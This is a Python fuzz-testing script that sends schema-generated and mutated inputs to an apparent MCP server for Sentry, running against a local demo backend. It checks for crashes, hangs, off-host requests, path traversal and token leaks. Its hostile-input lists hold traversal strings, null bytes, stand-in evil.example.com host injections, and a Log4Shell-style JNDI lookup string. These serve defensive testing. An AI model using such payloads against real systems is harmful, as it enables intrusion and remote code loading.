"""Fuzz every tool through the real MCP server with inputs generated from its JSON input schema.

Hypothesis draws arguments from each tool's ``inputSchema`` (plus realistic values for the well-known
params, so that many calls reach Sentry), then mutates them the way an agent or an attacker might:
wrong types, huge strings, odd unicode, path tricks (``../``, ``%2F``), extra params, missing params.
Every call goes through an in-memory ``mcp.Client`` to ``SentryMCPServer``, whose direct backend calls
the demo Sentry over real HTTP. For each call:

- it ends (no hang) and no exception escapes (no crash; unknown tool names are JSON-RPC -32602);
- the answer is data, or an ``isError`` result carrying one of our error types and a readable message;
- every request reached only the configured host (an httpx hook records each host contacted) and only
  the routes of the pair called (plus the region and project lookups), never a dot segment;
- the Sentry token appears in no answer.

    .venv/bin/python bench/fuzz.py                 # 10,000 calls
    .venv/bin/python bench/fuzz.py --calls 500 --seed 1

tests/test_fuzz.py runs a few hundred calls of the same checks.
"""

from __future__ import annotations

import argparse
import collections
import json
import logging
import re
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

import anyio
import httpx2
from anyio.from_thread import BlockingPortal, start_blocking_portal
from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st
from mcp import Client, MCPError
from mcp.types import CallToolResult, TextContent, Tool

from sentry_agent_mcp.catalog import CATALOG, Pair
from sentry_agent_mcp.config import Settings
from sentry_agent_mcp.mcp_server import SentryMCPServer
from sentry_agent_mcp.mcp_tools import ToolSurface
from sentry_demo import DEMO_TOKEN, DemoSentryServer, dataset

CANARY = "sntryu_canary0123456789abcdef0123456789abcdef0123456789abcdef0123"
ERROR_TYPES = {
    "invalid_params",
    "upstream_error",
    "rate_limited",
    "unknown_entity_action",
    "writes_disabled",
    "unsupported_on_backend",
    "timeout",
    "connection_error",
    "bad_response",
    "region_refused",
}
KNOWN: dict[str, list[Any]] = {
    "organization_slug": ["acme", "1"],
    "project_slug": ["web", "api", "4501", "frontend-app"],
    "issue_id": ["WEB-1A", "WEB-2", "API-3"],
    "event_id": ["latest", "recommended", *list(dataset().events)[:3]],
    "replay_id": ["0123456789abcdef0123456789abcdef"],
    "cursor": ["0:100:0", "0:0:1"],
    "interval": ["1h", "1d"],
    "environment": [["production"], ["staging", "production"]],
    "version": ["frontend@1.2.3+build/45 beta", "api@3.1.0", "frontend@2.4.0"],
    "team_slug": ["frontend", "backend"],
    "monitor_slug": ["sync-inventory"],
    "key": ["browser", "release", "url"],
    "alert_rule_id": ["7201"],
    "rule_id": ["8301"],
    "stats_period": ["24h", "14d", "90d"],
    "query": ["is:unresolved", "", "level:error"],
    "field": [["title", "count()"], ["release"]],
}
PATH_TRICKS = [
    "..",
    ".",
    "../",
    "../../users/me",
    "acme/../../users/me",
    "%2e%2e",
    "..%2F..%2Fusers%2Fme",
    "%2F",
    "a/b",
    "?x=1",
    "#frag",
    "\\..\\",
    "acme%00",
    "\x00",
    "http://evil.example.com/",
    "//evil.example.com/x",
    "@evil.example.com",
    "acme@evil.example.com",
    "{organization_slug}",
    "%s%n",
    "${jndi:ldap://evil.example.com/a}",
    " ",
    "",
    "\u202eevil",
    "🦄",
]
EXTRA_KEYS = [
    *("token", "auth_token", "headers", "Authorization", "url", "host", "hostname", "__proto__"),
    *("x" * 300, "k" * 20_000),
]
MAX_ERROR_CHARS = 5000
"""An error worth reading is short; a longer one is echoing what it was sent."""
_TEXT = st.text(st.characters(codec="utf-8"), max_size=40)
_JSON: st.SearchStrategy[Any] = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | _TEXT,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(_TEXT, inner, max_size=3),
    max_leaves=6,
)
HUGE = st.sampled_from(["A", "é", "🦄", "\u202e", "/", "%2F"]).flatmap(
    lambda char: st.integers(1_000, 100_000).map(lambda n: char * (n // len(char.encode())))
)
HOSTILE = st.one_of(st.sampled_from(PATH_TRICKS), HUGE, _JSON, _TEXT)


def from_schema(schema: dict[str, Any], name: str = "") -> st.SearchStrategy[Any]:
    """Values that fit ``schema`` (the JSON-schema subset tool schemas use), mixed with known good ones."""
    known = st.sampled_from(KNOWN[name]) if name in KNOWN else None
    if "enum" in schema:
        base: st.SearchStrategy[Any] = st.sampled_from(schema["enum"])
    elif "anyOf" in schema or "oneOf" in schema:
        base = st.one_of([from_schema(s, name) for s in schema.get("anyOf") or schema["oneOf"]])
    elif isinstance(schema.get("type"), list):
        base = st.one_of([from_schema({**schema, "type": t}, name) for t in schema["type"]])
    elif schema.get("type") == "string":
        if schema.get("format") == "date-time":
            base = st.datetimes().map(lambda d: d.isoformat() + "Z")
        elif "pattern" in schema:
            base = st.from_regex(schema["pattern"], fullmatch=True).filter(lambda s: len(s) < 200)
        else:
            size = min(schema.get("maxLength", 40), 40)
            base = st.text(st.characters(codec="utf-8"), min_size=schema.get("minLength", 0), max_size=size)
    elif schema.get("type") == "integer":
        base = st.integers(schema.get("minimum"), schema.get("maximum"))
    elif schema.get("type") == "number":
        base = st.floats(schema.get("minimum"), schema.get("maximum"), allow_nan=False, allow_infinity=False)
    elif schema.get("type") == "boolean":
        base = st.booleans()
    elif schema.get("type") == "array":
        base = st.lists(from_schema(schema.get("items", {})), max_size=min(schema.get("maxItems", 4), 4))
    elif schema.get("type") == "object" and "properties" in schema:
        base = object_strategy(schema)
    elif schema.get("type") == "object":
        base = st.dictionaries(_TEXT, _JSON, max_size=3)
    else:
        base = _JSON
    return base if known is None else st.one_of(known, base)


def weighted(*choices: tuple[int, st.SearchStrategy[Any]]) -> st.SearchStrategy[Any]:
    """``one_of`` with weights (Hypothesis has none): weight ``w`` means w shares of the draws."""
    slots = [strategy for weight, strategy in choices for _ in range(weight)]
    return st.integers(0, len(slots) - 1).flatmap(lambda n: slots[n])


def object_strategy(schema: dict[str, Any]) -> st.SearchStrategy[dict[str, Any]]:
    """Objects of ``schema``: any mix of its params, or only the required ones with known good values,
    so that a fair share of calls passes validation and reaches Sentry."""
    properties: dict[str, Any] = schema.get("properties", {})
    required = set(schema.get("required", []))
    anything = st.fixed_dictionaries(
        {k: from_schema(v, k) for k, v in properties.items() if k in required},
        optional={k: from_schema(v, k) for k, v in properties.items() if k not in required},
    )
    good = {k: st.sampled_from(KNOWN[k]) if k in KNOWN else from_schema(v, k) for k, v in properties.items()}
    tame = st.fixed_dictionaries({k: good[k] for k in properties if k in required})
    return weighted((2, tame), (1, anything))


def mutate(args: dict[str, Any], schema: dict[str, Any]) -> st.SearchStrategy[dict[str, Any]]:
    """Hostile variants of valid ``args``: a bad value, extra params, a missing param, everything bad."""
    names = sorted(set(args) | set(schema.get("properties", {})))
    variants: list[st.SearchStrategy[dict[str, Any]]] = [
        st.fixed_dictionaries({"name": st.sampled_from(EXTRA_KEYS) | _TEXT, "value": HOSTILE}).map(
            lambda extra: {**args, extra["name"]: extra["value"]}
        ),
        st.dictionaries(st.sampled_from(names) | _TEXT, HOSTILE, max_size=4) if names else st.just({}),
    ]
    if names:
        variants.append(
            st.fixed_dictionaries({"name": st.sampled_from(names), "value": HOSTILE}).map(
                lambda bad: {**args, bad["name"]: bad["value"]}
            )
        )
    if args:
        variants.append(st.sampled_from(sorted(args)).map(lambda gone: {k: v for k, v in args.items() if k != gone}))
    return st.one_of(variants)


def call_strategy(tools: list[Tool]) -> st.SearchStrategy[tuple[str, dict[str, Any]]]:
    """(tool name, arguments) over every tool: schema-drawn two times in three, mutated otherwise; a few bogus
    tool names."""
    by_tool = {pair.tool_name: pair for pair in CATALOG.values()}
    strategies = []
    for tool in tools:
        schema = tool.input_schema
        valid = object_strategy(schema)
        if tool.name == "sentry_execute":
            pairs = sorted(by_tool[t.name].key for t in tools if t.name in by_tool)
            via_execute = st.sampled_from(pairs).flatmap(
                lambda key: object_strategy(_schema_of(tools, CATALOG[key])).map(
                    lambda params, key=key: {"entity": key[0], "action": key[1], "params": params}
                )
            )
            valid = st.one_of(valid, via_execute)
        strategies.append(
            st.tuples(st.just(tool.name), weighted((2, valid), (1, valid.flatmap(lambda a, s=schema: mutate(a, s)))))
        )
    bogus = st.tuples(st.sampled_from(["sentry_nope", "sentry_issues_delete", "", "../sentry_execute"]), st.just({}))
    return st.one_of([*strategies, bogus])


def _schema_of(tools: list[Tool], pair: Pair) -> dict[str, Any]:
    return next(t.input_schema for t in tools if t.name == pair.tool_name)


def _route_pattern(template: str) -> re.Pattern[str]:
    parts = re.split(r"\{\w+\}", template)
    return re.compile("^/api/0" + "[^/]+".join(re.escape(p) for p in parts) + "$")


LOOKUPS = [_route_pattern(t) for t in ("/users/me/regions/", "/organizations/{o}/", "/projects/{o}/{p}/")]
_DOT_SEGMENTS = {".", "..", "%2e", "%2e%2e", ".%2e", "%2e."}


@dataclass
class Stats:
    calls: int = 0
    outcomes: collections.Counter[str] = field(default_factory=collections.Counter)
    upstream_requests: int = 0
    hosts: collections.Counter[str] = field(default_factory=collections.Counter)
    slowest: float = 0.0
    longest_error: int = 0
    oversized: list[str] = field(default_factory=list)
    """Errors longer than MAX_ERROR_CHARS: they echo the caller's input and flood the model's context."""


class _ErrorLog(logging.Handler):
    """Collects ERROR records (an unexpected exception in a tool is logged at ERROR by the SDK)."""

    def __init__(self) -> None:
        super().__init__(logging.ERROR)
        self.records: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(f"{record.name}: {record.getMessage()}")


@contextmanager
def record_hosts(hosts: collections.Counter[str]) -> Iterator[None]:
    """Count every host any ``httpx2.AsyncClient`` in this process sends a request to."""
    original = httpx2.AsyncClient.send

    async def send(client: httpx2.AsyncClient, request: httpx2.Request, *args: Any, **kwargs: Any) -> httpx2.Response:
        hosts[f"{request.url.scheme}://{request.url.netloc.decode()}"] += 1
        return await original(client, request, *args, **kwargs)

    httpx2.AsyncClient.send = send  # type: ignore[method-assign]
    try:
        yield
    finally:
        httpx2.AsyncClient.send = original  # type: ignore[method-assign]


class Fuzzer:
    """One MCP server + client (in a portal's event loop) and the demo Sentry; ``check`` makes one call."""

    def __init__(self, demo: DemoSentryServer, portal: BlockingPortal, client: Client, stats: Stats) -> None:
        self.demo, self.portal, self.client, self.stats = demo, portal, client, stats

    def check(self, tool: str, args: dict[str, Any]) -> None:
        start = len(self.demo.requests)
        hosts_before = sum(self.stats.hosts.values())
        began = time.monotonic()
        outcome = self.portal.call(self._call, tool, args)
        elapsed = time.monotonic() - began
        self.stats.calls += 1
        self.stats.slowest = max(self.stats.slowest, elapsed)
        received = self.demo.requests[start:]
        self.stats.upstream_requests += len(received)
        assert sum(self.stats.hosts.values()) - hosts_before == len(received), "a request went somewhere else"
        assert set(self.stats.hosts) <= {self.demo.url}, f"hosts contacted: {dict(self.stats.hosts)}"
        self._check_routes(tool, args, [r.path for r in received])
        if isinstance(outcome, str):
            self.stats.outcomes[outcome] += 1
            return
        text = " ".join(b.text for b in outcome.content if isinstance(b, TextContent))
        assert CANARY not in text, "the token leaked into an answer"
        if outcome.is_error:
            error = (outcome.structured_content or {}).get("error")
            assert isinstance(error, dict) and error.get("type") in ERROR_TYPES, f"not one of our errors: {text[:300]}"
            assert len(text) >= 10 and "Traceback (most recent call last)" not in text, f"unhelpful error: {text[:300]}"
            self.stats.longest_error = max(self.stats.longest_error, len(text))
            if len(text) > MAX_ERROR_CHARS:  # recorded, not fatal: the run goes on and reports them
                self.stats.oversized.append(f"{tool} ({len(text)} chars): {text[:160]}...")
            self.stats.outcomes[f"error:{error['type']}"] += 1
        else:
            assert outcome.structured_content is not None
            json.loads(text)
            self.stats.outcomes["data"] += 1

    async def _call(self, tool: str, args: dict[str, Any]) -> CallToolResult | str:
        with anyio.fail_after(20):  # the server's deadline is 5 s: anything near 20 s is a hang
            try:
                return await self.client.call_tool(tool, args)
            except MCPError as exc:
                assert tool in _BOGUS and exc.code == -32602, f"{tool}: {exc}"
                return "unknown_tool"

    def _check_routes(self, tool: str, args: dict[str, Any], paths: list[str]) -> None:
        allowed = list(LOOKUPS)
        pair = _pair_called(tool, args)
        if pair is not None:
            allowed += [_route_pattern(route.path) for route in pair.routes]
        for path in paths:
            segments = path.split("/")
            assert not _DOT_SEGMENTS & {s.lower() for s in segments}, f"dot segment reached Sentry: {path}"
            assert pair is not None and any(p.match(path) for p in allowed), f"{tool} {args!r:.200} reached {path}"


_BOGUS = {"sentry_nope", "sentry_issues_delete", "", "../sentry_execute"}


def _pair_called(tool: str, args: dict[str, Any]) -> Pair | None:
    if tool == "sentry_execute":
        entity, action = args.get("entity"), args.get("action")
        return CATALOG.get((entity, action)) if isinstance(entity, str) and isinstance(action, str) else None
    return next((p for p in CATALOG.values() if p.tool_name == tool), None)


def fuzz_settings(url: str) -> Settings:
    return Settings(backend="direct", auth_token=CANARY, hostname=url, allow_writes=True, timeout=5)


@contextmanager
def fuzzer(demo: DemoSentryServer, stats: Stats) -> Iterator[tuple[Fuzzer, list[Tool]]]:
    """A running fuzzer: the portal's loop holds the MCP client; hosts are recorded while it lives."""
    settings = fuzz_settings(demo.url)
    tools = ToolSurface.build(settings).tools
    with (
        record_hosts(stats.hosts),
        start_blocking_portal("asyncio") as portal,
        portal.wrap_async_context_manager(Client(SentryMCPServer(settings))) as client,
    ):
        yield Fuzzer(demo, portal, client, stats), tools


def run(calls: int, seed_value: int | None, derandomize: bool = False) -> tuple[Stats, list[str], float]:
    """Make ``calls`` fuzzed calls; returns the stats, the ERROR log records and the seconds taken."""
    stats = Stats()
    errors = _ErrorLog()
    logging.getLogger().addHandler(errors)
    started = time.monotonic()
    try:
        with DemoSentryServer(tokens=[DEMO_TOKEN, CANARY]) as demo, fuzzer(demo, stats) as (fz, tools):
            test = _property(fz, tools, calls, derandomize)
            if seed_value is not None:
                test = seed(seed_value)(test)
            test()
    finally:
        logging.getLogger().removeHandler(errors)
    return stats, errors.records, time.monotonic() - started


def _property(fz: Fuzzer, tools: list[Tool], calls: int, derandomize: bool) -> Callable[[], None]:
    @settings(
        max_examples=calls,
        deadline=None,
        database=None,
        derandomize=derandomize,
        phases=[Phase.generate, Phase.shrink],
        suppress_health_check=list(HealthCheck),
    )
    @given(call=call_strategy(tools))
    def every_call_ends_well(call: tuple[str, dict[str, Any]]) -> None:
        fz.check(*call)

    return every_call_ends_well  # type: ignore[no-any-return]


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--calls", type=int, default=10_000)
    parser.add_argument("--seed", type=int, default=None, help="Hypothesis seed (default: random)")
    args = parser.parse_args(argv)
    stats, logged_errors, seconds = run(args.calls, args.seed)
    print(f"{stats.calls} calls in {seconds:.1f} s ({stats.calls / seconds:.0f}/s), slowest {stats.slowest:.2f} s")
    print(f"upstream requests: {stats.upstream_requests}; hosts contacted: {dict(stats.hosts)}")
    print(f"longest error text: {stats.longest_error} chars; ERROR log records: {len(logged_errors)}")
    print(f"errors over {MAX_ERROR_CHARS} chars (echoing the input): {len(stats.oversized)}")
    for line in stats.oversized[:5]:
        print(f"  {line}")
    for outcome, count in stats.outcomes.most_common():
        print(f"  {outcome:34} {count}")
    for line in logged_errors[:10]:
        print(f"ERROR LOG: {line}", file=sys.stderr)
    return 1 if logged_errors or stats.oversized or stats.calls < args.calls else 0


if __name__ == "__main__":
    sys.exit(main())
